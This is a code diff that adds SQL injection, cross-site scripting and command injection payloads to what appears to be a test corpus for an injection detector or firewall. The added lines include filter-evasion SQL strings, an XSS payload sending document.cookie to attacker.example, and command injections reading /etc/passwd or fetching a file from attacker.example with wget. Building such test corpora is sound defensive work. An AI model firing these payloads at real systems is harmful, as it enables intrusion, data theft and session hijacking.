@@ -222,6 +222,17 @@ def sqli():
         C("/dashboard", "remember_me=YWRtaW4%3D; user_id=5%27%20or%20%27x%27%3D%27x"),
         M("/upload/meta", [("title", "holiday"), ("album_id", "3 UNION SELECT 1,2,3,4--")]),
         J("/api/v1/users", {"email": "x@example.com'); DELETE FROM users; --", "name": "Li Lei"}, method="PATCH"),
+        # no spaces at all, parentheses and HTTP parameter pollution
+        Q("/products", "id", "1'and(1)=(1)--"),
+        Q("/products", "id", "1 uNIoN(sElEcT 1,2,3)"),
+        Q("/products", "id", "-1'union(select(1),(user()),(3))#"),
+        RQ("/products", "id=1&id=%27%20OR%20%27x%27%3D%27x"),
+        RQ("/products", "id=1%27/*&sort=*/UNION/*&page=*/SELECT%20password%20FROM%20users--"),
+        J("/api/v1/search", None, raw='{"filters":{"name\' OR 1=1--":"x"},"page":1}'),
+        J("/api/v1/bulk", {"ids": [1, 2, "3) OR (SELECT 1 FROM users WHERE id=1)=(1"]}),
+        Q("/products", "id", "1e0union select 1,2"),
+        Q("/products", "id", "1 AND 1=1 -- -", e=lambda p: p.replace(" ", "+")),
+        C("/orders", "sort=id%20DESC%3B%20SELECT%20pg_sleep(5)--; sid=ab12"),
     ]
 
 
@@ -344,6 +355,14 @@ def xss():
         Q("/page", "x", "<embed src=javascript:alert(1)>"),
         Q("/page", "x", "<a onmouseover=alert(1)>x</a>"),
         Q("/callback", "jsonp", "alert(document.cookie);//"),
+        Q("/page", "x", "<img src=x oNeRrOr=alert(1)>"),
+        Q("/page", "x", '<a href="javascript&colon;alert(1)">x</a>'),
+        Q("/page", "x", "<iframe src=&#x6A;avascript:alert(1)>"),
+        RQ("/page", "x=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"),
+        Q("/page", "x", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
+        J("/api/v1/settings", None, raw='{"<img src=x onerror=alert(1)>":"1","theme":"dark"}'),
+        RQ("/page", "x=safe&x=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        F("/post", "content", "<p>hello</p><img src=\"x\" onerror=\"this.src='//attacker.example/?c='+document.cookie\">"),
     ]
 
 
@@ -404,6 +423,11 @@ def cmdi():
         Q("/tools/whois", "d", "example.com | tee /tmp/o; /bin/cat /etc/hosts"),
         M("/admin/plugins", [("name", "x"), ("cmd", "ls; id; cat /etc/issue")]),
         Q("/tools/ping", "host", "127.0.0.1 | i''d"),
+        Q("/tools/ping", "host", "127.0.0.1;c\\at /etc/passwd"),
+        Q("/tools/ping", "host", "127.0.0.1;{ls,-la,/}"),
+        Q("/tools/ping", "host", "127.0.0.1;cat</etc/passwd"),
+        Q("/tools/ping", "host", "127.0.0.1;/usr/bin/id", e=uenc),
+        J("/api/v1/diag", {"target": "1.1.1.1", "opts": ["-c", "1", "; wget http://attacker.example/b -O /tmp/b"]}),
     ]
 
 
